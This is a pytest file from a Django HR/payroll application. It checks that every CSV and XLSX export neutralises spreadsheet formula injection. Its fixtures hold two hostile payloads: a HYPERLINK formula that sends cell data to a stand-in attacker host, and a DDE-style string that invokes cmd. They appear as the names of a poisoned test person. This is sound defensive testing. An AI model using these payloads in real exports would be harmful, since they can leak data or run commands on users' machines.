"""No export carries a live formula (issue 13, defect 1): a prescriber's referral creates the
person, so a name such as `=HYPERLINK(...)` must reach HR's payroll file as text."""

import ast
import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
import time_machine
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from tremplin.accounts.enums import Role
from tremplin.contracts.tests.factories import ContractFactory
from tremplin.kernel.spreadsheets import FORMULA_STARTS, append_row, csv_bytes, neutralised
from tremplin.organisations.tests.factories import ProductionSupportFactory
from tremplin.people.tests.factories import PersonFactory
from tremplin.worktime.tests.factories import TimesheetEntryFactory

LAST_NAME = '=HYPERLINK("http://attaquant.example/?d="&A1,"Voir")'
FIRST_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_formula_start_is_neutralised_and_numbers_stay_numbers(start):
    assert neutralised(f"{start}1+1") == f"'{start}1+1"
    assert neutralised("Dupont-Martin") == "Dupont-Martin"
    assert neutralised(-5) == -5 and neutralised(Decimal("-1.5")) == Decimal("-1.5")
    row = next(csv.reader(io.StringIO(csv_bytes([[f"{start}x", -3]]).decode("utf-8-sig")), delimiter=";"))
    assert row == [f"'{start}x", "-3"]


def test_an_xlsx_text_cell_is_stored_as_text_never_as_a_formula():
    workbook = Workbook()
    append_row(workbook.active, ["=1+1", 2.5, None])
    cell = workbook.active["A1"]
    assert (cell.value, cell.data_type) == ("'=1+1", "s")
    assert workbook.active["B1"].value == 2.5


def test_every_spreadsheet_is_written_through_the_kernel():
    # csv.writer, openpyxl's Workbook() and Worksheet.append are used in kernel/spreadsheets.py only
    offenders = []
    for path in (ROOT / "tremplin").rglob("*.py"):
        if "tests" in path.parts or path.name == "spreadsheets.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute | ast.Name):
                name = node.func.attr if isinstance(node.func, ast.Attribute) else node.func.id
                receiver = getattr(node.func, "value", None)
                if name in {"writer", "DictWriter"} and getattr(receiver, "id", "") == "csv":
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} csv.{name}")
                if name == "Workbook" or (name == "append" and getattr(receiver, "id", "") == "sheet"):
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} {name}")
    assert offenders == []


@pytest.fixture
def poisoned(structure, make_member):
    """A person whose names are formulas, under contract with hours in March 2026."""
    supervisor = make_member(Role.SUPERVISOR, structure)
    support = ProductionSupportFactory(structure=structure, supervisor=supervisor)
    person = PersonFactory(structure=structure, last_name=LAST_NAME, first_name=FIRST_NAME)
    contract = ContractFactory(
        person=person, production_support=support, start=date(2026, 1, 5), initial_end=date(2026, 12, 31)
    )
    TimesheetEntryFactory(contract=contract, day=date(2026, 3, 3), hours=Decimal(7))
    return person


EXPORTS = [
    ("portability:table_csv", ["personnes"]),
    ("portability:table_xlsx", ["personnes"]),
    ("portability:table_csv", ["contrats"]),
    ("portability:table_xlsx", ["contrats"]),
    ("worktime:statement_csv", ["2026-03"]),
    ("worktime:statement_xlsx", ["2026-03"]),
    ("worktime:payroll_csv", ["2026-03"]),
]


def cells(response) -> list:
    if response["Content-Type"].startswith("text/csv"):
        rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
        return [(value, "s") for row in rows for value in row]
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [(cell.value, cell.data_type) for row in sheet.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize(("name", "args"), EXPORTS)
def test_no_export_holds_a_live_formula(client, make_member, structure, poisoned, name, args):
    client.force_login(make_member(Role.DIRECTOR, structure))
    with time_machine.travel(date(2026, 4, 8), tick=False):
        response = client.get(reverse(name, args=args))
    assert response.status_code == 200
    found = cells(response)
    assert any(LAST_NAME.upper() in str(value) or LAST_NAME in str(value) for value, _ in found)
    assert [value for value, kind in found if kind == "f" or str(value).startswith(FORMULA_STARTS)] == []
